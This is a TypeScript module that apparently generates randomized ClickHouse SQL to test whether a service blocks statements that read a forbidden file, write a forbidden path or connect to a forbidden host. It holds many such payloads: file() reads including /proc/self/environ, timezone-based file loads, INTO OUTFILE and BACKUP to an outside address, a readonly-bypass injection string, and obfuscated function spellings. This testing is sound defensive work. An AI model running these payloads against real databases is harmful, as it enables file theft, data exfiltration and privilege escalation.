import type { Random } from '../sim/random.ts';

/** The names that the engine itself lists. */
export interface EngineNames {
  functions: readonly string[];
  tableFunctions: readonly string[];
  settings: readonly string[];
  formats: readonly string[];
  systemTables: readonly string[];
  tableEngines: readonly string[];
}

/** The targets of an attack. No statement may touch any of them. */
export interface Bait {
  /** A file that no statement may read. */
  readPath: string;
  /** A path that no statement may write. */
  writePath: string;
  /** `host:port` to which no statement may connect. */
  address: string;
}

/** The material of a statement. */
interface Context {
  random: Random;
  names: EngineNames;
  bait: Bait;
}
type Make = (context: Context) => string;

const quote = (text: string): string => `'${text.replaceAll('\\', '\\\\').replaceAll("'", "\\'")}'`;

/** The name of a zone that is a file, in the forms in which the engine takes it. A terminal never ends. */
function zone({ bait, random }: Context): string {
  const path = `file:${random.pick([bait.readPath, '/dev/ptmx', '/dev/tty', '/proc/self/environ'])}`;
  return random.pick([
    quote(path),
    `concat(${quote(path.slice(0, 3))}, ${quote(path.slice(3))})`,
    `unhex(${quote(Buffer.from(path).toString('hex'))})`,
    `(SELECT ${quote(path)})`,
    `x'${Buffer.from(path).toString('hex')}'`,
  ]);
}

/** Expressions that load a time zone. */
const zoned: Make[] = [
  (context) => `toDateTime(0, ${zone(context)})`,
  (context) => `toDateTime64(0, 3, ${zone(context)})`,
  (context) => `toStartOfInterval(now(), INTERVAL 1 DAY, ${zone(context)})`,
  (context) => `toString(now(), ${zone(context)})`,
  (context) => `CAST(0 AS DateTime(${zone(context)}))`,
  (context) => `CAST(0, concat('DateTime(', ${quote(quote(zonePath(context)))}, ')'))`,
  (context) => `JSONExtract('{"a":1}', 'a', ${quote(`DateTime(${quote(zonePath(context))})`)})`,
  (context) => `defaultValueOfTypeName(${quote(`DateTime(${quote(zonePath(context))})`)})`,
  (context) => `(SELECT x FROM values(${quote(`x DateTime(${quote(zonePath(context))})`)}, 0))`,
];

function zonePath({ bait, random }: Context): string {
  return `file:${random.pick([bait.readPath, '/dev/ptmx'])}`;
}

/** An expression that reads the target file when it is evaluated, and shows it in an error or a result. */
const readers: Make[] = [
  (context) => context.random.pick(zoned)(context),
  (context) => context.random.pick(zoned)(context),
  ({ bait }) => `file(${quote(bait.readPath)})`,
  ({ bait }) => `toUInt64(file(${quote(bait.readPath)}))`,
  ({ bait }) => `throwIf(1, file(${quote(bait.readPath)}))`,
  ({ bait, random }) => `${spelled(random, 'file')}(${quote(bait.readPath)})`,
  ({ bait }) => `arrayMap(file, [${quote(bait.readPath)}])`,
  ({ bait, random }) => `arrayMap(${spelled(random, 'file')}, [${quote(bait.readPath)}])`,
  ({ bait, random, names }) => `${random.pick(names.functions)}(file(${quote(bait.readPath)}))`,
  ({ bait }) => `arrayReduce(${quote(`topK(toUInt64(file(${quote(bait.readPath)})))`)}, [1])`,
  ({ bait }) => `initializeAggregation(${quote(`topK(toUInt64(file(${quote(bait.readPath)})))`)}, 1)`,
  ({ bait }) => `catboostEvaluate(${quote(bait.readPath)}, 1)`,
  (context) => `(SELECT * FROM ${source(context)})`,
  (context) => `1 IN ${source(context)}`,
];

/** Strings that the engine parses as code: structures, types, aggregates with parameters. */
function codeText({ random, bait }: Context): string {
  const read = `toUInt64(file(${quote(bait.readPath)}))`;
  return random.pick([
    read,
    `topK(${read})`,
    `quantile(${read})`,
    `a UInt64 DEFAULT ${read}`,
    `a UInt64 MATERIALIZED ${read}`,
    `a UInt64 ALIAS ${read}, b String`,
    `FixedString(${read})`,
    `DateTime64(${read})`,
    `Decimal(${read}, 1)`,
    `AggregateFunction(topK(${read}), UInt8)`,
    `Array(AggregateFunction(topK(${read}), UInt8))`,
    `ngrams(${read})`,
    `SELECT ${read}`,
    `{_file} ${read}`,
  ]);
}

const ARGUMENTS: Make[] = [
  ({ bait }) => quote(bait.readPath),
  ({ bait }) => quote(bait.writePath),
  ({ bait }) => quote(`http://${bait.address}/x`),
  ({ bait }) => quote(bait.address),
  (context) => quote(codeText(context)),
  (context) => quote(codeText(context)),
  () => `'a String'`,
  () => `'CSV'`,
  () => `'LineAsString'`,
  () => '1',
  () => '0.5',
  () => 'now()',
  () => "'{}'",
  () => "['a', 'b']",
  () => '(1, 2)',
  () => "map('a', 1)",
  () => "toDate('2020-01-01')",
  ({ bait }) => `materialize(${quote(bait.readPath)})`,
  ({ bait }) => `[${quote(bait.readPath)}]`,
  () => `'2020-01-01'`,
  () => 'number',
  () => '[1, 2]',
  () => 'x -> x',
  () => 'default.baited',
  () => 'system.users',
  () => '(SELECT 1)',
  () => '{p:String}',
  ({ random }) => String(random.int(-5, 300)),
];

function callOf(context: Context, name: string): string {
  const { random } = context;
  const some = Array.from({ length: random.int(0, 4) }, () => random.pick(ARGUMENTS)(context));
  const parameters = random.chance(0.1) ? `(${random.pick(ARGUMENTS)(context)})` : '';
  return `${random.chance(0.1) ? spelled(random, name) : name}${parameters}(${some.join(', ')})`;
}

/** A source to read from other than the service's tables. */
function source(context: Context): string {
  const { random, names, bait } = context;
  const path = bait.readPath;
  return random.pick([
    () => `file(${quote(path)}, 'LineAsString')`,
    () => `file(${quote(path)}, 'CSV', ${quote(codeText(context))})`,
    () => `\`${path}\``,
    () => `"${path}"`,
    () => quote(path),
    () => `default."${path}"`,
    () => `{p:Identifier}`,
    () => `url('http://${bait.address}/', 'LineAsString')`,
    () => `remote('${bait.address}', system.one)`,
    () => `values(${quote(codeText(context))}, (1))`,
    () => `generateRandom(${quote(codeText(context))})`,
    () => `system.${random.pick(names.systemTables)}`,
    () => `view(SELECT ${random.pick(readers)(context)})`,
    () => callOf(context, random.pick(names.tableFunctions)),
    () => callOf(context, random.pick(names.tableFunctions)),
    () => callOf(context, random.pick(names.tableFunctions)),
  ])();
}

/** Statements to send without the password. */
export const READER_KINDS: Make[] = [
  (context) => `SELECT ${context.random.pick(readers)(context)}`,
  (context) => `SELECT ${callOf(context, context.random.pick(context.names.functions))}`,
  (context) => `SELECT ${callOf(context, context.random.pick(context.names.functions))}`,
  (context) => `SELECT ${callOf(context, context.random.pick(context.names.functions))} FROM baited`,
  (context) => `SELECT * FROM ${source(context)}`,
  (context) => `SELECT * FROM baited AS a ${context.random.pick(JOINS)} ${source(context)}`,
  (context) => `DESCRIBE ${source(context)}`,
  (context) => `SHOW CREATE TABLE ${source(context)}`,
  (context) => `SELECT 1 FORMAT ${context.random.pick(context.names.formats)}`,
  (context) => `SELECT 1 SETTINGS ${setting(context)}`,
  (context) => `SELECT 1 INTO OUTFILE ${quote(context.bait.writePath)} FORMAT CSV`,
  (context) =>
    `SELECT * APPLY(${context.random.pick(context.names.functions)}) FROM (SELECT ${quote(context.bait.readPath)})`,
  (context) => `WITH ${context.random.pick(readers)(context)} AS x SELECT x`,
  (context) => `SELECT CAST('', ${quote(codeText(context))})`,
  (context) => `SELECT CAST('1' AS ${codeText(context)})`,
  (context) => `SELECT n FROM baited WHERE n IN (${context.random.pick(readers)(context)})`,
  ({ random }) => random.pick(HARMLESS),
  ({ random }) => random.pick(HARMLESS),
];

const JOINS = [
  ',',
  'JOIN',
  'LEFT ARRAY JOIN',
  'ARRAY JOIN',
  'CROSS JOIN',
  'FINAL,',
  'SAMPLE 1 OFFSET 1,',
  'where,',
  'AS array JOIN',
];

/** Statements to send with the password, as if it had leaked. */
export const SERVICE_KINDS: Make[] = [
  ...READER_KINDS,
  (context) => `INSERT INTO FUNCTION file(${quote(context.bait.writePath)}, 'CSV', 'a String') SELECT 'x'`,
  (context) => `INSERT INTO FUNCTION ${callOf(context, context.random.pick(context.names.tableFunctions))} SELECT 1`,
  (context) =>
    `INSERT INTO TABLE FUNCTION ${callOf(context, context.random.pick(context.names.tableFunctions))} VALUES (1)`,
  (context) => `INSERT INTO baited FROM INFILE ${quote(context.bait.readPath)} FORMAT CSV`,
  (context) => `INSERT INTO \`${context.bait.writePath}\` VALUES (1)`,
  (context) => `INSERT INTO baited VALUES (${context.random.pick(readers)(context)}, '')`,
  (context) => `INSERT INTO baited SELECT 1, ${context.random.pick(readers)(context)}`,
  (context) =>
    `INSERT INTO baited FORMAT ${context.random.pick(context.names.formats)} (${context.random.pick(readers)(context)}, '')`,
  (context) =>
    `CREATE TABLE IF NOT EXISTS made (a String DEFAULT ${context.random.pick(readers)(context)}) ENGINE = Memory`,
  (context) =>
    `CREATE TABLE IF NOT EXISTS made (a String) ENGINE = ${callOf(context, context.random.pick(context.names.tableEngines))} ORDER BY a`,
  (context) => `CREATE TABLE IF NOT EXISTS made AS ${source(context)}`,
  (context) => `CREATE VIEW IF NOT EXISTS made AS SELECT * FROM ${source(context)}`,
  (context) => `CREATE DATABASE IF NOT EXISTS made ENGINE = Filesystem(${quote(context.bait.readPath)})`,
  (context) => `ALTER TABLE baited DELETE WHERE ${context.random.pick(readers)(context)} = 'x'`,
  (context) => `ALTER TABLE baited FREEZE WITH NAME ${quote(context.bait.writePath)}`,
  (context) => `BACKUP TABLE baited TO File(${quote(context.bait.writePath)})`,
  (context) => `BACKUP TABLE baited TO S3('http://${context.bait.address}/x')`,
  () => 'DROP TABLE IF EXISTS made',
];

const HARMLESS = [
  'SELECT n, s FROM baited WHERE n > 1 ORDER BY s LIMIT 5',
  'SELECT count(), uniqExactIf(s, n > 1) FROM baited GROUP BY n % 2 WITH TOTALS',
  'WITH x AS (SELECT n FROM baited) SELECT * FROM x LEFT JOIN baited AS b USING (n), numbers(3) AS z',
  "SELECT trim(BOTH ' ' FROM s), extract(YEAR FROM today()), (1, 2).1, [1, 2][1], n::String FROM baited",
  "SELECT * FROM values('a String, b UInt8', ('x', 1))",
  'EXPLAIN AST SELECT n FROM baited',
  'EXPLAIN SYNTAX SELECT n + 1 FROM baited WHERE s IN (SELECT s FROM baited)',
  'SELECT {p:String}, s FROM baited WHERE s = {p:String}',
  "SELECT sum(n) OVER (ORDER BY s ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM baited -- it's",
  'SHOW TABLES FROM default',
];

/** `name = value` of one of the engine's settings. */
export function setting({ random, names, bait }: Context): string {
  return `${random.pick(names.settings)} = ${quote(settingValue(random, bait))}`;
}

export function settingValue(random: Random, bait: Bait): string {
  return random.pick([
    '0',
    '1',
    'true',
    '',
    bait.readPath,
    bait.writePath,
    `http://${bait.address}`,
    "1'; SET readonly = 0; --",
  ]);
}

/** Another spelling of a name. */
function spelled(random: Random, name: string): string {
  return random.pick([
    name.toUpperCase(),
    `\`${name}\``,
    `"${name}"`,
    `"\\x${name.charCodeAt(0).toString(16)}${name.slice(1)}"`,
    `${name}/**/`,
    `${name} --\n`,
    `${name}\u00a0`,
    `${name}\0`,
    `‘${name}’`,
    `“${name}”`,
    `{p:Identifier}`,
    `${name}If`,
    `system.${name}`,
  ]);
}
